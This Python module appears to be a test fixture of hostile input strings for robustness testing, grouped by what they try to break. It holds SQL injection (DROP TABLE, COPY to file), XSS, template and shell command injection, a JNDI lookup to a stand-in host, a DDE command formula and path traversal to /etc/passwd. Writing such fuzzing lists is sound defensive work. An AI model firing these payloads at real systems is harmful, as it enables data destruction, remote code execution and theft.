"""Strings that have broken programs: written by hand, grouped by what they try to break."""

from __future__ import annotations

import itertools

SQL = [
    "'; DROP TABLE scriptright.client; --", "' OR '1'='1", "Robert'); DELETE FROM scriptright.pet;--",
    '" OR ""="', "1; SELECT pg_sleep(9)", "\\'; COPY scriptright.client TO '/tmp/x'; --",
    "%s", "%(practice_id)s", ":practice_id", "$1", "{0}", "\\N", "\\.", "E'\\x41'", "$$; SELECT 1; $$",
    "/* x */", "NULL", "-- x", "admin'--", "'||(SELECT version())||'",
]  # fmt: skip
HTML = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "&lt;b&gt;", "</td></tr><h1>x", "<a href='javascript:alert(1)'>x</a>", "<!-- x -->",
    "![x](https://e.example/x.png)", "[x](javascript:alert(1))", "`x` **x** | x |", "<iframe src=//x>",
    "\"><script>x</script>", "<style>*{display:none}</style>", "&#x3C;script&#x3E;", "]]>",
]  # fmt: skip
TEMPLATE = [
    "{{ 7*7 }}", "{% for x in y %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "[[7*7]]",
    "${jndi:ldap://e.example/x}", "{{ ''.__class__ }}", "$(touch /tmp/x)", "`touch /tmp/x`", "%n%n%n",
    "[bold]x[/bold]", "[link=https://e.example]x[/link]", "[/]", "[red", "%{(#x=1)}",
]  # fmt: skip
FORMULA = [
    "=1+1", "=HYPERLINK(\"https://e.example\";\"x\")", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1",
    "=cmd|' /C calc'!A0", "=IMPORTXML(\"https://e.example\",\"//x\")", "==1", "+cmd|x", "-2+3+cmd|x",
    "@x", "=1,2", "\"=1\"", "';=1",
]  # fmt: skip
HEADER = [
    "x\r\nBcc: all@e.example", "x\nSubject: hi", "x\r\n\r\nbody", "x\rTo: y@e.example",
    "x%0d%0aBcc: y@e.example", "=?utf-8?q?x=0d=0aBcc:_y?=", "x\u2028Bcc: y", "x\u2029y", "x\x85y",
    "x\x0by", "x\x0cy", "a@b.example, c@d.example", "<a@b.example>", "\"x\" <a@b.example>",
    "x\r\n.\r\nMAIL FROM:<y>",
]  # fmt: skip
TERMINAL = [
    "\x1b[2J\x1b[H", "\x1b]0;x\x07", "\x1b[31mx", "\x9b31mx", "\x1bP+q\x1b\\", "x\x08\x08\x08y",
    "\x07", "\x1b]8;;https://e.example\x1b\\x", "\x1b[6n", "\x1bc", "x\rERASED", "\x1b[8m", "\x00x",
    "\x7f", "\x1b(0", "\x90x\x9c",
]  # fmt: skip
UNICODE = [
    "\u202egnp.exe", "\u2066x\u2069", "\u200bx\u200b", "\ufeffx", "\u00adx", "\u200d", "e\u0301" * 30,
    "\u0645\u062d\u0645\u062f", "\u05e9\u05dc\u05d5\u05dd", "\u1e9e\u00df", "\u0130i\u0131I",
    "\ufb01\ufb02", "\uff21\uff22", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1fa\U0001f1f8",
    "Z\u0351\u036b\u0343\u036a\u0302", "\ufdfa", "\u3164", "\u115f", "\u2800", "\u061c", "\ufffe",
    "\ufffd", "\ufdd0", "\U0010ffff", "\u0000", "\u180e", "\u2000x\u3000",
]  # fmt: skip
SHAPES = [
    "null", "None", "undefined", "NaN", "Infinity", "-0", "1e309", "0x10", "true", "[]", "{}", "\\",
    "\\\\", "../../etc/passwd", "C:\\x", "CON", "file:///etc/passwd", "\"", "'", "`", ",", ";", "|",
    "#", "--help", "-", ".", "..", " ", "\t", "\n", "\r\n", "a" * 9_000, "\u00e9" * 5_000, "'" * 500,
    "x" * 10_001, "(" * 2_000, "9" * 400,
]  # fmt: skip
GROUPS = (SQL, HTML, TEMPLATE, FORMULA, HEADER, TERMINAL, UNICODE, SHAPES)
AROUND = ("{}", "Ann {}", "{} Lee", "Ann{}Lee")


def hostile(count: int) -> list[str]:
    """The first `count` different ones: each alone, then inside of ordinary text; one of 1 MB."""
    alone = [text for group in GROUPS for text in group]
    made = [around.replace("{}", text) for around, text in itertools.product(AROUND, alone)]
    return ["M" * 1_000_000, *dict.fromkeys(made)][:count]
